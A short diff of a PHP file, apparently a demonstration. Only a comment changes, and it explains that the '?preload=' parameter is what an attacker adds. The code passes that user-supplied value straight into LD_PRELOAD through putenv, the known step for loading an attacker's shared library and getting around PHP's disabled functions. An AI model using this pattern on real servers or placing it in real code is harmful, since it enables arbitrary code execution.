@@ -1,5 +1,5 @@
 <?php
-// What every contact form does; and what an attacker who can run PHP makes of it.
+// Sends mail, as a contact form does; ?preload= is what an attacker who can run PHP adds.
 if (isset($_GET['preload'])) {
     putenv('LD_PRELOAD=' . $_GET['preload']);
 }
